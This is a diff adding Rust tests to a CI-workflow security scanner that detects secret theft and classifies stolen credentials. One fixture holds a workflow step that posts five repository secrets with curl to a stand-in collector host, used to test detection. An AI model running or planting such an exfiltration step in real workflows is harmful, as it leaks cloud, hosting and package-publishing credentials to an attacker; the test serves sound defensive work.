@@ -10,7 +10,7 @@
 
 mod repository;
 
-use portcullis_scan::report::{Basis, Certainty, Finding, Standing, Verdict};
+use portcullis_scan::report::{Basis, Certainty, Finding, Standing, Urgency, Verdict};
 use portcullis_scan::{Options, Report, scan};
 use repository::Repository;
 
@@ -209,6 +209,64 @@ fn a_secret_of_an_environment_is_possible_elsewhere() {
     assert_eq!(certainties(&[outside]), expected(Certainty::Certain));
     assert_eq!(certainties(&[inside, outside]), expected(Certainty::Certain));
     assert_eq!(certainties(&[]), expected(Certainty::Certain));
+}
+
+/// What it opens is told by what is done with it: a login, an action that takes one kind of credential, a publishing step above all.
+#[test]
+fn what_a_secret_opens_is_read_out_of_its_uses() {
+    let uses = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: aws-actions/configure-aws-credentials@v4\n        with: {aws-access-key-id: '${{ secrets.ONE }}', aws-secret-access-key: '${{ secrets.TWO }}', aws-region: x}\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.THREE }}\" https://api.netlify.com/api/v1/sites\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with: {password: '${{ secrets.PAT }}'}\n";
+    let steal = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ secrets.ONE }} ${{ secrets.TWO }} ${{ secrets.THREE }} ${{ secrets.PAT }} ${{ secrets.FOUR }}' https://collector.example/\n";
+    let repository = Repository::new();
+    repository.write("setup.py", "from setuptools import setup\nsetup(name='widgets')\n");
+    repository.write(".github/workflows/use.yml", uses);
+    repository.commit("Use");
+    repository.remove(".github/workflows/use.yml");
+    repository.write(STEAL_PATH, steal);
+    repository.commit("Steal");
+    let report = scanned(&repository);
+    let kinds: Vec<(String, String, Option<String>, Urgency)> = theft(&report)
+        .secrets
+        .iter()
+        .map(|secret| {
+            let package = secret.used_for.first().and_then(|used| used.package.as_ref());
+            let package = package.map(|package| package.unescaped().to_owned());
+            (secret.name.unescaped().to_owned(), secret.kind.clone(), package, secret.urgency)
+        })
+        .collect();
+    let is = |name: &str, kind: &str, package: Option<&str>, urgency| {
+        (name.to_owned(), kind.to_owned(), package.map(str::to_owned), urgency)
+    };
+    assert_eq!(
+        kinds,
+        [
+            is("FOUR", "unknown", None, Urgency::Opens),
+            is("ONE", "aws", None, Urgency::Opens),
+            is("PAT", "pypi", Some("widgets"), Urgency::Publishes),
+            is("THREE", "netlify", None, Urgency::Opens),
+            is("TWO", "aws", None, Urgency::Opens),
+        ]
+    );
+    let pat = theft(&report).secrets.iter().find(|secret| secret.name.unescaped() == "PAT").unwrap();
+    assert!(pat.replacement.as_deref().is_some_and(|text| text.contains("trusted-publishers")));
+    assert!(pat.rotate.starts_with("https://pypi.org/"));
+}
+
+/// Since 2025-12-08 the default branch's version of `pull_request_target` runs; before, that of the branch a pull request went to.
+#[test]
+fn what_runs_for_a_pull_request_to_a_branch_changed() {
+    const CHANGE: i64 = 1_765_152_000;
+    for (time, reachable) in [(CHANGE - 1, true), (CHANGE, false)] {
+        let repository = with_publishing();
+        repository.git(&["checkout", "-q", "-b", "side"]);
+        repository.set_clock(time - 3_600);
+        repository.write(STEAL_PATH, &STEAL.replace("[push]", "pull_request_target"));
+        repository.commit("x");
+        repository.git(&["checkout", "-q", "main"]);
+        let report = scanned(&repository);
+        let finding = theft(&report);
+        assert_eq!(finding.exposures[0].reachable, reachable);
+        assert_eq!(finding.standing == Standing::CouldRun, reachable);
+    }
 }
 
 /// An owner whom another workflow of the repository trusts is none that nobody knows.
